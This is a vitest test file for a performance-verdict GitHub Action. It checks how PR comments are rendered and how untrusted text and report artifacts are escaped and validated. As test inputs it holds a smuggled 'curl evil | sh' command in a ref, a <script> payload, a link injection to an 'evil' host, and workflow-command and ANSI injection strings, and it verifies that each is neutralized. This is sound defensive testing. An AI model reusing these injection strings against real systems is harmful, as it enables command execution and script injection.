import { describe, expect, it } from 'vitest';
import { commandSafe, escapeInline, fenced, plainInline } from '../../src/report/escape.js';
import {
  COMMENT_MARKER,
  MAX_BODY,
  renderCheck,
  renderComment,
  renderHeadline,
  renderRow,
  renderSummary,
  renderTerminal,
} from '../../src/report/render.js';
import { worstVerdict, checkConclusion } from '../../src/report/model.js';
import { formatTimeChange } from '../../src/report/render-format.js';
import { parseUntrustedReport } from '../../src/report/artifact.js';
import { casesReport, comparison, demoReport, evaluation, report, row } from './fixtures.js';
import type { ToolRow } from '../../src/report/model.js';

const LINKS = { serverUrl: 'https://github.com', repository: 'octo/tools', runId: '42' };
/** No-break spaces shown as `~`, so expected cells read plainly and still pin them down. */
const show = (text: string): string => text.replaceAll('\u00a0', '~');
/** The cells of `id`'s row, read as text (without the `<wbr>` wrap points of long ids). */
function rowOf(body: string, id: string): string[] {
  const line = body
    .split('\n')
    .map((l) => l.replaceAll('<wbr>', ''))
    .find((l) => l.startsWith('| ') && l.includes(`**${id}**`));
  if (line === undefined) throw new Error(`no row for ${id}`);
  return show(line).slice(2, -2).split(' | ');
}
function detailsOf(body: string, id: string): string {
  const start = body.indexOf(`<details><summary>${id} — `);
  if (start === -1) throw new Error(`no details for ${id}`);
  return show(body.slice(start, body.indexOf('</details>', start)));
}
/**
 * The comment's row for `id` (its cells `from` up to `to`, default all) is `cells`, and its
 * details contain `details`; returns the details for further checks.
 */
function expectTool(
  body: string,
  id: string,
  expected: { cells: string[]; from?: number; to?: number; details: string },
): string {
  expect(rowOf(body, id).slice(expected.from ?? 0, expected.to)).toEqual(expected.cells);
  const details = detailsOf(body, id);
  expect(details).toContain(expected.details);
  return details;
}

describe('the PR comment', () => {
  it('matches its snapshot for the demo report', () => {
    expect(renderComment(demoReport(), { links: LINKS }, 'd1')).toMatchSnapshot();
  });

  it('matches its snapshot for the hard cases', () => {
    expect(renderComment(casesReport(), { links: LINKS }, 'd2')).toMatchSnapshot();
  });

  it('leads with the worst verdict, and its headline agrees with the rows', () => {
    const body = renderComment(demoReport(), {}, 'd1');
    expect(
      body.startsWith(
        `${COMMENT_MARKER}\n<!-- perf-verdict:digest=d1 -->\n## perf-verdict: ❌ REJECT — 1 rejected, 3 accepted (4 changed tools)`,
      ),
    ).toBe(true);
    expect(show(body)).toContain(
      '| Tool | Base | Head | Δ time (99~%~CI) | Δ~memory | Findings | Verdict |',
    );
    expect(rowOf(body, 'slow_sort')).toEqual([
      '**slow_sort**',
      '1.00~ms',
      '3.02~ms',
      '3.0×~slower (2.9 to 3.1×)',
      '+202~%',
      'none',
      '❌~REJECT~12',
    ]);
    expect(rowOf(body, 'fast_sum').slice(1, 4)).toEqual([
      '1.00~ms',
      '330~µs',
      '3.0×~faster (2.9 to 3.2×)',
    ]);
  });

  it.each([
    [7.46, '7.5×~slower'],
    [12.4, '12×~slower'],
    [2, '2.0×~slower'],
    [1.99, '+99~%'],
    [0.51, '−49~%'],
    [0.5, '2.0×~faster'],
    [0.476, '2.1×~faster'],
  ])('a time ratio of %d reads as people say it: %s', (ratio, text) => {
    expect(show(formatTimeChange(ratio))).toBe(text);
  });

  it('a long id may wrap after / and _, never inside a number', () => {
    const body = renderComment(casesReport(), {}, 'd');
    expect(body).toContain(
      '| **text/<wbr>normalize_<wbr>unicode_<wbr>whitespace_<wbr>v2** (new) |',
    );
    expect(renderTerminal(casesReport())).not.toContain('<wbr>');
  });

  it('BASE and HEAD times stand beside the change; large changes read as factors', () => {
    const slow = row({
      id: 'big',
      verdict: 'REJECT',
      score: 5,
      comparison: comparison(7.46, 7.1, 7.9, 'regression', 2_000),
    });
    expect(rowOf(renderComment(report([slow]), {}, 'd'), 'big').slice(1, 4)).toEqual([
      '2.00~µs',
      '14.9~µs',
      '7.5×~slower (7.1 to 7.9×)',
    ]);
  });

  it('an inconclusive ACCEPT says why it is one, and what would settle it', () => {
    const body = renderComment(casesReport(), {}, 'd');
    expect(rowOf(body, 'steady')[3]).toBe(
      '+1.0~% (−3.0 to +4.5~%) inconclusive: no slowdown above 5.0~% possible at 99~%',
    );
    expect(detailsOf(body, 'steady')).toContain(
      '- inconclusive: the smallest change this run could tell from noise was ±5.9~%; a budget of about 286~s per tool (`time-budget-seconds`, `--budget`; this run had 20~s) would settle a change of +1.0~%',
    );
    const wide = row({
      id: 'wide',
      verdict: 'ACCEPT',
      score: 81,
      comparison: comparison(1.03, 0.95, 1.12, 'inconclusive'),
    });
    expect(rowOf(renderComment(report([wide]), {}, 'd'), 'wide')[3]).toBe(
      '+3.0~% (−5.0 to +12~%) inconclusive (accepted: see why below)',
    );
  });

  it('a legend under the table says what Δ, the interval and the score mean', () => {
    expect(show(renderComment(demoReport(), {}, 'd1'))).toContain(
      '<sub>Δ: head vs base time per call, the median over fresh process pairs with its 99~% interval; within ±2.0~% is noise. Verdict score 0–100: ≥~80 ACCEPT, ≤~30 REJECT, REVIEW between.</sub>',
    );
  });

  it('collapses rows unchanged within noise under one line, and shows the security fix', () => {
    const body = renderComment(demoReport(), {}, 'd1');
    expect(show(body)).toMatch(
      /<details><summary>1~tool unchanged within noise: quiet<\/summary>\n\n\| Tool [^\n]+\n[^\n]+\n\| \*\*quiet\*\*/,
    );
    expect(rowOf(body, 'safe_eval')[5]).toBe('🔒~1 fixed: B307');
    expect(detailsOf(body, 'safe_eval')).toContain(
      '- fixed findings:\n  - B307 (HIGH) line~3: Use of possibly insecure function',
    );
  });

  it('an ACCEPT whose interval stays inside the negligible zone is collapsed too', () => {
    const body = renderComment(casesReport(), {}, 'd');
    expect(show(body)).toContain('<summary>1~tool unchanged within noise: steady</summary>');
  });

  it('a new tool: its findings named with rule, severity and line', () => {
    const body = renderComment(casesReport(), { links: LINKS }, 'd');
    expectTool(body, 'new_noinput_shell', {
      cells: [
        `[**new_noinput_shell**](https://github.com/octo/tools/blob/${'b'.repeat(40)}/tools/new_noinput_shell.py) (new)`,
        '—',
        '—',
        'new: not run',
        '—',
        '⚠️~1: B602',
        '❌~REJECT~25',
      ],
      details:
        '**Analysis of the new tool**\n- complexity 3.0; syntax valid\n- security findings (1):\n  - B602 (HIGH) line~4: subprocess call with shell=True identified, security issue.',
    });
  });

  it('a new tool run alone shows its time per call, or its failure as one', () => {
    const profile = {
      ns_per_call: 3430,
      cold_ns: 2_100_000,
      memory_kb: 12,
      samples: 30,
      calls_per_sample: 100,
      runs: 3,
      inputs: 1,
      network: [],
      wall_ms: 900,
    };
    const fresh = (
      id: string,
      p: typeof profile & { error?: { kind: 'exception'; message: string } },
    ) => row({ id, status: 'new', analysis_old: null, diff: null, old_code: null, profile: p });
    const body = renderComment(
      report([
        fresh('runs', profile),
        fresh('fails', { ...profile, error: { kind: 'exception', message: 'KeyError: x' } }),
      ]),
      {},
      'd',
    );
    expect(rowOf(body, 'runs').slice(1, 4)).toEqual(['—', '3.43~µs', 'new: run alone']);
    expect(rowOf(body, 'fails').slice(1, 4)).toEqual(['—', '—', 'head crashed: KeyError']);
    expect(detailsOf(body, 'runs')).toContain('**Run on its example (baseline)**');
    expect(detailsOf(body, 'fails')).toContain(
      '**Run on its example**\n- **head crashed: KeyError** — KeyError: x',
    );
  });

  it('a new tool without a test input says how to give it one', () => {
    const body = renderComment(casesReport(), {}, 'd');
    expectTool(body, 'text/normalize_unicode_whitespace_v2', {
      from: 1,
      cells: ['—', '—', 'not measured: no test input', '—', 'none', '🟡~REVIEW~60'],
      details: 'add examples&#91;0&#93;.input to normalize_unicode_whitespace_v2.yaml',
    });
  });

  it('a crashed head is a failure, never 0 ns or an unbounded interval', () => {
    const body = renderComment(casesReport(), {}, 'd');
    const details = expectTool(body, 'divide', {
      cells: [
        '**divide**',
        '1.00~ms',
        '—',
        'head crashed: ZeroDivisionError',
        '—',
        'none',
        '❌~REJECT~0',
      ],
      details: '- head: **head crashed: ZeroDivisionError** — ZeroDivisionError: division by zero',
    });
    for (const absurd of [/\b0~ns/, /1\.79/, /e\+308/, /0\.000/, /\b0~samples/])
      expect(details).not.toMatch(absurd);
  });

  it('a crashed row shows the end of its traceback with repository paths; a base cut short says so', () => {
    const c = comparison(1, 1, 1, 'inconclusive');
    const crashed = row({
      id: 'ratio',
      path: 'tools/m/ratio.py',
      verdict: 'REJECT',
      score: 0,
      comparison: {
        ...c,
        old: { ...c.old, samples: 0, calls_per_sample: 0, ns_per_call: 0 },
        new: {
          ...c.new,
          error: {
            kind: 'exception',
            message: 'ZeroDivisionError: division by zero',
            traceback:
              '  File "/tmp/tmp.Ab12Cd/tool.py", line 2, in process\n    return data[0] / 0\nZeroDivisionError: division by zero\n',
          },
        },
      },
    });
    const details = detailsOf(renderComment(report([crashed]), {}, 'd'), 'ratio');
    expect(details).toContain(
      [
        '- base: ran, not timed: the measurement stopped when the other version failed',
        '- head: **head crashed: ZeroDivisionError** — ZeroDivisionError: division by zero',
        '',
        '```text',
        '  File "tools/m/ratio.py", line 2, in process',
        '    return data[0] / 0',
        'ZeroDivisionError: division by zero',
        '```',
      ].join('\n'),
    );
    expect(details).not.toMatch(/tmp\.Ab12Cd|0~samples of 0~calls/);
  });

  it('a crashed base is named as the base', () => {
    const body = renderComment(casesReport(), {}, 'd');
    expectTool(body, 'base_broken', {
      from: 1,
      to: 5,
      cells: ['—', '1.00~ms', 'base timed out: no answer within 10 s', '—'],
      details: '- base: **base timed out: no answer within 10 s**',
    });
  });

  it('an interval from too few pairs is not printed as one', () => {
    const body = renderComment(casesReport(), {}, 'd');
    expect(rowOf(body, 'few_pairs')[3]).toBe('2 of 4 pairs: too few to say');
    const details = detailsOf(body, 'few_pairs');
    expect(details).toContain('- 2 of 4 process pairs: too few to say (no interval)');
    expect(details).not.toMatch(/interval \d|855|mermaid/);
  });

  it('a removed tool says so', () => {
    const body = renderComment(casesReport(), {}, 'd');
    expectTool(body, 'legacy_tool', {
      cells: ['**legacy_tool** (removed)', '—', '—', '—', '—', '—', '🟡~REVIEW'],
      details: 'Removed at head',
    });
  });

  it('a REJECT says who may accept it and how, and how to reproduce it with the real shas', () => {
    const body = show(renderComment(casesReport(), { acceptLabel: 'perf:ok' }, 'd'));
    expect(body).toContain(
      '- To merge anyway, someone with write access adds the label `perf:ok` or comments `/perf-verdict accept`: the check then passes for this head and this comment says who accepted (a new push needs a new accept).',
    );
    expect(body).toContain(
      `- Reproduce locally, in a clone that has both commits: \`perf-verdict gate --base ${'c'.repeat(40)} --head ${'b'.repeat(40)} --budget 20\``,
    );
    expect(body).toContain('REVIEW alone does not fail the check.');
    const accepted = renderComment(
      report([row({ id: 'slow', verdict: 'REJECT', score: 10 })], {
        override: { by: 'octocat', via: 'label', detail: 'perf-verdict:accept' },
      }),
      {},
      'd',
    );
    expect(accepted).not.toContain('To merge anyway');
    const fine = renderComment(demoReport(), {}, 'd');
    expect(renderComment(report([row({ id: 'ok' })]), {}, 'd')).not.toContain('What to do next');
    expect(fine).toContain('What to do next');
  });

  it.each([
    [{ repository: 'octo/perf-verdict', ref: 'v1' }, 'npx --yes github:octo/perf-verdict#v1'],
    [
      { repository: 'octo/tools', ref: 'f'.repeat(40) },
      `npx --yes github:octo/tools#${'f'.repeat(40)}`,
    ],
    // The ref comes from a workflow file the PR may have written: nothing but a ref survives.
    [
      { repository: 'octo/perf-verdict', ref: 'v1; curl evil | sh' },
      'npx --yes github:octo/perf-verdict',
    ],
    [{ repository: 'octo/perf-verdict', ref: '../../x' }, 'npx --yes github:octo/perf-verdict'],
    [{ repository: 'not a repo', ref: 'v1' }, 'perf-verdict'],
  ])(
    'the reproduce command runs the perf-verdict that ran (%o), never an npm name',
    (action, cli) => {
      const body = renderComment(casesReport(), { links: { ...LINKS, action } }, 'd');
      expect(body).toContain(
        `- Reproduce locally, in a clone that has both commits: \`${cli} gate --base ${'c'.repeat(40)} --head ${'b'.repeat(40)} --budget 20\``,
      );
    },
  );

  it('links come from the values passed in: run, commits, files at the head sha', () => {
    const body = renderComment(casesReport(), { links: LINKS }, 'd');
    expect(body).toContain(
      '## [perf-verdict: ❌ REJECT — 3 rejected, 4 to review, 1 accepted (8 changed tools)](https://github.com/octo/tools/actions/runs/42)',
    );
    expect(body).toContain(
      `base [\`ccccccc\`](https://github.com/octo/tools/commit/${'c'.repeat(40)}) (merge-base with main) → head [\`bbbbbbb\`](https://github.com/octo/tools/commit/${'b'.repeat(40)})`,
    );
    expect(body).toContain(
      `[**divide**](https://github.com/octo/tools/blob/${'b'.repeat(40)}/tools/divide.py)`,
    );
    // No links without them, and a hostile path cannot end the link.
    expect(renderComment(casesReport(), {}, 'd')).not.toContain('](http');
    const hostile = renderComment(
      report([row({ id: 'x', path: 'tools/a) [y](https://evil/x.py' })]),
      { links: LINKS },
      'd',
    );
    expect(hostile).toContain('/tools/a%29%20%5By%5D%28https%3A//evil/x.py)');
  });

  it('draws each measured pair: a Mermaid chart of the pair ratios, interval and noise zone', () => {
    const body = renderComment(casesReport(), {}, 'd');
    expect(detailsOf(body, 'slow_sort')).toContain(
      [
        '```mermaid',
        'xychart-beta',
        '    title "slow_sort: head/base time per process pair"',
        '    x-axis "process pair" [1, 2, 3, 4]',
        '    y-axis "time ratio head/base" 2.88 --> 3.12',
        '    line [2.95, 3.08, 3.01, 3.04]',
        '    line [2.9, 2.9, 2.9, 2.9]',
        '    line [3.1, 3.1, 3.1, 3.1]',
        '```',
        "<sub>The jagged line: each process pair's ratio, in run order. Flat lines: the 99~% interval 2.9–3.1; the noise zone 0.98–1.02 lies far below, off the chart.</sub>",
      ].join('\n'),
    );
    expect(body.match(/```mermaid/g)).toHaveLength(1);
  });

  it('one sign convention: U+2212 everywhere, also in the judge’s reasons', () => {
    const r = demoReport();
    const tools = r.tools.map((t) =>
      t.evaluation === null
        ? t
        : {
            ...t,
            evaluation: {
              ...t.evaluation,
              band: { ...t.evaluation.band, reasons: ['time -80 % (-80 % to -75 %)'] },
            },
          },
    );
    const body = renderComment({ ...r, tools }, {}, 'd');
    expect(body).toContain('- time −80 % (−80 % to −75 %)');
    expect(body.replace(/```mermaid[\s\S]*?```/g, '')).not.toMatch(/(^|[\s(])-\d/m);
  });

  it('a PR with no changed tool gets a short comment', () => {
    const body = renderComment(report([]), {}, 'd0');
    expect(body).toContain('## perf-verdict: ⚪ NONE — no tool changed in this pull request');
    expect(body.length).toBeLessThan(600);
  });

  it('says when a tool was measured on a busy machine, and only then', () => {
    const c = comparison(1.2, 1.1, 1.3, 'regression');
    const diagnostics = {
      stopped: 'decided' as const,
      timer: 'cpu' as const,
      sample_sd: 0.03,
      round_sd: 0.03,
      pair_sd: 0.005,
      personality_sd: 0,
      boot_ms: 200,
      warmup_ms: 40,
      rounds_per_pair: 20,
      pair_ms: 500,
      sample_ms: 2,
      busy: true,
      load_average: 5.23,
      cpus: 2,
    };
    const busy = row({ id: 'tool_busy', comparison: { ...c, diagnostics } });
    const quiet = row({
      id: 'tool_quiet',
      comparison: { ...c, diagnostics: { ...diagnostics, busy: false } },
    });
    expect(renderComment(report([busy]), {}, 'd')).toContain(
      'measured on a busy machine (load 5.2 on 2\u00a0CPUs)',
    );
    expect(renderComment(report([quiet]), {}, 'd')).not.toContain('busy machine');
  });

  it('stays under 65,536 characters: pictures go first, then details, and it says so', () => {
    const long = 'x'.repeat(3000);
    const pictured = (i: number, reasoning: string) => {
      const c = comparison(1.2, 1.1, 1.3, 'regression');
      return row({
        id: `tool_${String(i).padStart(3, '0')}`,
        verdict: 'REVIEW',
        score: 50,
        comparison: {
          ...c,
          time: { ...c.time, pair_ratios: Array.from({ length: 40 }, (_, k) => 1.1 + k / 200) },
        },
        evaluation: evaluation(50, 'REVIEW', reasoning),
      });
    };
    const some = Array.from({ length: 60 }, (_, i) => pictured(i, 'short'));
    const withPictures = renderSummary(report(some), {});
    expect(withPictures.length).toBeGreaterThan(MAX_BODY);
    const cutPictures = renderComment(report(some), {}, 'd');
    expect(cutPictures.length).toBeLessThanOrEqual(MAX_BODY);
    expect(cutPictures).toContain("Pictures cut to stay under GitHub's 65,536-character limit");
    expect(cutPictures).not.toContain('Details of');
    expect(cutPictures).not.toContain('```mermaid');

    const tools = Array.from({ length: 300 }, (_, i) => pictured(i, long));
    const body = renderComment(report(tools), {}, 'd');
    expect(body.length).toBeLessThanOrEqual(MAX_BODY);
    expect(body).toMatch(
      /Details of \d+\u00a0tools cut to stay under GitHub's 65,536-character limit/,
    );
    expect(body).toContain('| **tool_299**');
    const summary = renderSummary(report(tools.slice(0, 20)), {});
    expect(summary).not.toContain('cut to stay under');
  });

  it('shows an override and an unjudged (measure mode) report', () => {
    const rejected = report([row({ id: 'slow', verdict: 'REJECT', score: 10 })], {
      override: { by: 'octocat', via: 'label', detail: 'perf-verdict:accept' },
    });
    expect(renderHeadline(rejected)).toBe(
      'perf-verdict: ❌ REJECT — 1 rejected (1 changed tool) · accepted by `octocat` (label)',
    );
    const measured = report([row({ id: 'a', verdict: null, score: null })], {
      verdict: null,
      judge: null,
    });
    expect(renderHeadline(measured)).toBe(
      'perf-verdict: ⏳ measured, not judged — 1 measured, not judged yet (1 changed tool)',
    );
  });

  it('says loudly in the headline, comment, summary and check when tool code ran unsandboxed', () => {
    const why = 'bubblewrap (bwrap) is not installed: apt-get install bubblewrap';
    /** One unchanged tool, ACCEPT, measured under `sandbox`. */
    const measuredUnder = (sandbox: ReturnType<typeof comparison>['sandbox']) =>
      report([
        row({
          id: 'a',
          verdict: 'ACCEPT',
          score: 90,
          comparison: { ...comparison(1, 0.99, 1.01, 'unchanged'), sandbox },
        }),
      ]);
    const unsandboxed = measuredUnder({ mode: 'auto', kind: 'none', reason: why });
    const loud = `unsandboxed: ${why}`;
    expect(renderHeadline(unsandboxed)).toContain(`⚠️ ${loud}`);
    expect(renderComment(unsandboxed, {}, 'd')).toContain(loud);
    expect(renderSummary(unsandboxed, {})).toContain(loud);
    expect(renderCheck(unsandboxed, {}).title).toContain(loud);
    const sandboxed = measuredUnder({ mode: 'auto', kind: 'bwrap' });
    expect(renderHeadline(sandboxed)).not.toContain('unsandboxed');
    // The report file keeps which sandbox ran, through the untrusted-report parser too.
    const parsed = parseUntrustedReport(
      JSON.parse(JSON.stringify({ ...unsandboxed, mode: 'measure' })),
    );
    expect(parsed.tools[0]?.comparison?.sandbox).toEqual({
      mode: 'auto',
      kind: 'none',
      reason: why,
    });
  });

  it('the rules judge’s reasoning appears once, as the reasons', () => {
    const body = renderComment(demoReport(), {}, 'd');
    expect(body).not.toContain('```text');
    expect(detailsOf(body, 'slow_sort')).toContain(
      '**Why** (judge rules, confidence high; allowed scores 0–100, rule score 12)\n- fixture band',
    );
  });

  it('the check output and the terminal table carry the same rows', () => {
    const check = renderCheck(demoReport(), {});
    expect(check.title).toBe('❌ REJECT — 1 rejected, 3 accepted (4 changed tools)');
    expect(check.summary).toContain('| **slow_sort**');
    expect(check.text).toContain('<summary>slow_sort — ❌\u00a0REJECT\u00a012</summary>');
    const terminal = renderTerminal(demoReport());
    expect(
      terminal
        .split('\n')
        .filter((l) => l.startsWith('| **'))
        .map((l) => l.split(' | ')[0]),
    ).toEqual(['| **slow_sort**', '| **fast_sum**', '| **quiet**', '| **safe_eval**']);
  });
});

describe('escaping untrusted text', () => {
  const hostile =
    'evil @octocat <script>alert(1)</script> | a | b\nnew line `code` [x](http://e) </details>';

  it.each([
    ['@mention', '@octocat', '&#64;octocat'],
    ['HTML', '<script>', '&lt;script&gt;'],
    ['pipe', 'a | b', 'a &#124; b'],
    ['newline', 'a\nb\r\nc', 'a b c'],
    ['backtick', '`x`', '&#96;x&#96;'],
    ['link', '[x](y)', '&#91;x&#93;(y)'],
    ['bidi override', 'a\u202eb', 'ab'],
  ])('%s', (_, input, expected) => {
    expect(escapeInline(input)).toBe(expected);
  });

  it('log lines and terminal cells cannot become workflow commands or ANSI escapes', () => {
    expect(commandSafe('::stop-commands::token: ACCEPT')).toBe(' ::stop-commands::token: ACCEPT');
    expect(commandSafe('tool a\n::add-mask::x')).toBe('tool a ::add-mask::x');
    expect(plainInline('\u001b[31mred\u001b[0m | x\ny')).toBe('[31mred[0m \\| x y');
  });

  it('a hostile tool id cannot break the table, mention anyone or inject HTML', () => {
    const line = renderRow(row({ id: hostile }));
    expect(line.split('\n')).toHaveLength(1);
    // 7 columns: 8 unescaped pipes.
    expect(line.match(/\|/g)).toHaveLength(8);
    expect(line).not.toMatch(/@octocat|<script>|<\/details>|`/);
  });

  it('hostile model reasoning is escaped, a hostile requirement stays inside its fence', () => {
    const block = fenced('```\n</details>\n@octocat\n````');
    const fence = block.split('\n')[0]!.replace('text', '');
    expect(fence).toBe('`````');
    expect(block.endsWith(`\n${fence}`)).toBe(true);
    const body = renderComment(
      report([
        row({
          id: 'x',
          evaluation: { ...evaluation(50, 'REVIEW', hostile), llm_model: 'qwen2.5' },
          requirement_new: hostile,
          verdict: 'REVIEW',
          score: 50,
        }),
      ]),
      {},
      'd',
    );
    expect(body).toContain('- the model says: evil &#64;octocat &lt;script&gt;');
    // Inside a fence nothing renders; outside it nothing hostile may remain.
    const outside = body.replace(/(`{3,})text\n[\s\S]*?\n\1/g, '');
    expect(outside).not.toBe(body);
    expect(outside).not.toMatch(/<script>|@octocat/);
  });
});

describe('aggregation and check conclusion', () => {
  it.each([
    [[], 'NONE'],
    [['ACCEPT', 'ACCEPT'], 'ACCEPT'],
    [['ACCEPT', 'REVIEW'], 'REVIEW'],
    [['REVIEW', 'REJECT', 'ACCEPT'], 'REJECT'],
    // null: not judged (a removed tool in record mode); it does not count.
    [[null, 'ACCEPT'], 'ACCEPT'],
    [[null], 'NONE'],
  ] as const)('%j → %s', (verdicts, expected) => {
    expect(worstVerdict(verdicts.map((verdict) => ({ verdict })))).toBe(expected);
  });

  const fork = { source: 'the pull_request job of the fork o/r', trusted: false };
  const trustedFork = { ...fork, trusted: true };
  const accepted = { by: 'a', via: 'label', detail: '' } as const;
  it.each([
    ['REJECT', 'reject', null, undefined, 'failure'],
    ['REVIEW', 'reject', null, undefined, 'neutral'],
    ['ACCEPT', 'reject', null, undefined, 'success'],
    ['NONE', 'reject', null, undefined, 'success'],
    ['REVIEW', 'review', null, undefined, 'failure'],
    ['REJECT', 'never', null, undefined, 'neutral'],
    ['REJECT', 'reject', accepted, undefined, 'success'],
    // Unverified numbers (a fork's own measure job) never make a green check by themselves…
    ['ACCEPT', 'reject', null, fork, 'neutral'],
    ['NONE', 'reject', null, fork, 'neutral'],
    ['REVIEW', 'reject', null, fork, 'neutral'],
    // …a forged report cannot argue its way out of a worse verdict…
    ['REJECT', 'reject', null, fork, 'failure'],
    ['REVIEW', 'review', null, fork, 'failure'],
    // …a writer's accept of that head turns them green, and so does a base config that trusts them.
    ['ACCEPT', 'reject', accepted, fork, 'success'],
    ['REVIEW', 'reject', accepted, fork, 'success'],
    ['ACCEPT', 'reject', null, trustedFork, 'success'],
    ['REVIEW', 'reject', null, trustedFork, 'neutral'],
    ['REJECT', 'reject', null, trustedFork, 'failure'],
  ] as const)(
    '%s with fail-on %s, override %j, unverified %j → %s',
    (verdict, failOn, override, unverified, expected) => {
      const report = {
        verdict,
        override,
        settings: { fail_on: failOn },
        ...(unverified === undefined ? {} : { unverified }),
      };
      expect(checkConclusion(report)).toBe(expected);
    },
  );
});

describe('an artifact is untrusted data', () => {
  const good = (): any => JSON.parse(JSON.stringify({ ...demoReport(), mode: 'measure' }));

  it('keeps measurements and code, drops verdicts, scores and evaluations', () => {
    const parsed = parseUntrustedReport(good());
    expect(parsed.tools).toHaveLength(4);
    expect(parsed.tools[0]!.comparison?.time.ratio).toBe(0.33);
    expect(
      parsed.tools.every((t) => t.verdict === null && t.score === null && t.evaluation === null),
    ).toBe(true);
  });

  it.each([
    ['a wrong schema', (r: any) => (r.schema = 'other'), /'schema'/],
    [
      'a non-finite ratio',
      (r: any) => (r.tools[0].comparison.time.ratio = 'NaN'),
      /tools\[0\]\.comparison\.time\.ratio/,
    ],
    [
      'an unknown change',
      (r: any) => (r.tools[1].comparison.time.change = 'great'),
      /time\.change' must be one of/,
    ],
    ['a bad sha', (r: any) => (r.head_sha = 'HEAD'), /'head_sha'/],
    ['a newline in an id', (r: any) => (r.tools[0].id = 'a\nb'), /tools\[0\]\.id/],
    ['an unknown status', (r: any) => (r.tools[0].status = 'trusted'), /tools\[0\]\.status/],
    ['a judged report', (r: any) => (r.mode = 'full'), /'mode'/],
  ])('rejects %s', (_, tamper, message) => {
    const r = good();
    tamper(r);
    expect(() => parseUntrustedReport(r)).toThrow(message);
  });
});

describe('the runtime that ran each version (issue 26)', () => {
  const withRuntimes = (oldRuntime: string, newRuntime: string): ToolRow => {
    const c = comparison(1.5, 1.4, 1.6, 'regression');
    return row({
      id: 'rt',
      verdict: 'REVIEW',
      score: 50,
      comparison: {
        ...c,
        old: { ...c.old, runtime: oldRuntime },
        new: { ...c.new, runtime: newRuntime },
      },
    });
  };

  it('names it once when both versions ran on the same one, each side where they differ', () => {
    const same = renderSummary(report([withRuntimes('Python 3.11.7', 'Python 3.11.7')]), {});
    expect(same).toContain('- ran on Python 3.11.7\n');
    const differ = renderSummary(report([withRuntimes('Node v22.1.0', 'Node v24.11.1')]), {});
    expect(differ).toContain('- ran on: base Node v22.1.0, head Node v24.11.1\n');
  });

  it('a report artifact keeps a runtime name and refuses anything else in its place', () => {
    const good = JSON.parse(
      JSON.stringify({
        ...report([withRuntimes('Python 3.11.7', 'Python 3.12.1')]),
        mode: 'measure',
        verdict: null,
      }),
    );
    const parsed = parseUntrustedReport(good);
    expect(parsed.tools[0]!.comparison?.new.runtime).toBe('Python 3.12.1');
    good.tools[0].comparison.new.runtime = 'Python 3 <img src=x>';
    expect(() => parseUntrustedReport(good)).toThrow(
      /'tools\[0\]\.comparison\.new\.runtime' must match/,
    );
  });
});
